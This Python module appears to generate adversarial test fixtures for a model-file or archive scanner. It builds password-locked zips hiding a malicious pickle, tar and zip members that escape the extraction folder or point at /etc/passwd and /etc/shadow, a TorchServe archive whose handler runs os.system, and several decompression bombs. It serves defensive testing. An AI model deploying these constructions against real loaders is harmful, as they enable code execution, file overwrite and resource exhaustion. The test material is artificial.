"""Round 7, C08 to C10: locked archives, members that leave their folder, bombs."""

import bz2
import gzip
import io
import json
import struct
import tarfile
import zlib
from collections.abc import Iterator

from held_out.seventh_asm import CANARY, CMD, Loaded
from held_out.seventh_containers import EVIL, make, objects, torch_parts, zipped
from held_out.seventh_zip import Part, archive, crypted


def locked() -> Iterator[Loaded]:
    def part(name: bytes, data: bytes, method: int = 0) -> Part:
        crc = zlib.crc32(data)
        packed = zlib.compress(data)[2:-4] if method else data
        return Part(name, data, method, flags=1, raw=crypted(packed, b"model", crc))

    yield make(
        "C08_encrypted", "locked_stored.zip", archive([part(b"model.pkl", EVIL)]), "password"
    )
    yield make(
        "C08_encrypted",
        "locked_beside_open.zip",
        archive([Part(b"config.json", b"{}"), part(b"weights/model.pkl", EVIL, 8)]),
        "password",
    )
    yield make(
        "C08_encrypted",
        "locked_torch.pt",
        archive([*torch_parts(EVIL)[1:], part(b"archive/data.pkl", EVIL)]),
        "password",
    )


def slipped(
    kind: bytes, name: str, link: str = "", data: bytes = b"", form: int = tarfile.GNU_FORMAT
) -> bytes:
    box = io.BytesIO()
    with tarfile.open(fileobj=box, mode="w", format=form) as tar:
        member = tarfile.TarInfo(name)
        member.type, member.linkname, member.size = kind, link, len(data)
        tar.addfile(member, io.BytesIO(data) if data else None)
        if link:
            below = tarfile.TarInfo(f"{name}/{CANARY}")
            below.size = 4
            if kind == tarfile.SYMTYPE:
                tar.addfile(below, io.BytesIO(b"slip"))
    return box.getvalue()


def archives() -> Iterator[Loaded]:
    far = "../" * 2 + CANARY
    long = "./" * 70 + far
    table = {
        "link_then_file.tar": slipped(tarfile.SYMTYPE, "weights", "../.."),
        "absolute_link.nemo": slipped(tarfile.SYMTYPE, "model_config.yaml", "/etc/passwd"),
        "pax_path.tar": slipped(tarfile.REGTYPE, far, data=b"slip", form=tarfile.PAX_FORMAT),
        "gnu_long_name.tar": slipped(tarfile.REGTYPE, long, data=b"slip"),
        "hard_link_out.tar": slipped(tarfile.LNKTYPE, "model.bin", "../../../etc/shadow"),
        "fifo_member.tar": slipped(tarfile.FIFOTYPE, "model.bin"),
        "character_device.tar": slipped(tarfile.CHRTYPE, "model.bin"),
        "dot_slash.tar.gz": gzip.compress(
            slipped(tarfile.REGTYPE, "./" + far, data=b"slip"), mtime=0
        ),
    }
    for name, data in table.items():
        shown = ("link_then_file.tar", "pax_path.tar", "gnu_long_name.tar", "dot_slash.tar.gz")
        yield make("C09_archive", name, data, "extract" if name in shown else "construction")
    yield make(
        "C09_archive",
        "handler.mar",
        zipped(
            {
                "MAR-INF/MANIFEST.json": json.dumps(
                    {"model": {"handler": "serve.py", "modelName": "m", "serializedFile": "m.bin"}}
                ).encode(),
                "serve.py": b"import os\nos.system('" + CMD.encode() + b"')\n",
                "m.bin": b"\0" * 8,
            }
        ),
        "construction",
    )
    yield make(
        "C09_archive",
        "backslashes.zip",
        archive([Part(b"..\\..\\start\\run.bat", b"calc")]),
        "construction",
    )
    yield make(
        "C09_archive",
        "link_member.zip",
        archive([Part(b"model.bin", b"/etc/passwd", attributes=0xA1FF0000, made_by=0x031E)]),
        "construction",
    )


def swollen(head: bytes, times: int) -> bytes:
    """Return raw deflate of `head` and `times` * 8 MiB of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    zeros = packer.compress(bytes(8 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + zeros * times + packer.flush()


def bombs() -> Iterator[Loaded]:
    size = 1000 * (8 << 20)
    promise = b"\x80\x04\x8e" + struct.pack("<Q", size)
    header = b"{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % size
    array = swollen(objects(b"", header), 1000)
    gz = b"\x1f\x8b\x08\0" + bytes(4) + b"\x02\xff" + swollen(promise, 1000) + bytes(8)
    yield make(
        "C10_bomb",
        "deflate.npz",
        archive([Part(b"x.npy", b"", 8, raw=array, size=0xFFFFFFFF, crc=0)]),
        "construction",
    )
    yield make("C10_bomb", "promised.pkl.gz", gz, "construction")
    yield make("C10_bomb", "gz_twice.pkl.gz", gzip.compress(gz, 9, mtime=0), "construction")
    row = b"(" + b"".join(b"h%c" % 0 for _ in range(9)) + b"t"
    grown = b"\x80\x04}(NNNNNNNNNt" + b"".join(
        b"\x940" + row.replace(b"h\0", b"h%c" % i) for i in range(12)
    )
    yield make("C10_bomb", "laughs_key.pkl", grown + b"Ns.", "construction")
    raw = swollen(b"", 100)
    overlap = b"".join(
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\1\2",
            20,
            20,
            0,
            8,
            0,
            33,
            0,
            len(raw),
            800 << 20,
            4,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + b"%04d" % i
        for i in range(300)
    )
    local = (
        struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, 0, len(raw), 800 << 20, 4, 0)
        + b"0000"
        + raw
    )
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 300, 300, len(overlap), len(local), 0)
    yield make("C10_bomb", "overlapping.zip", local + overlap + end, "construction")
    ended = bz2.compress(promise + bytes(64)) + bz2.compress(bytes(45 << 20)) * 180
    yield make("C10_bomb", "many_streams.joblib", ended, "construction")
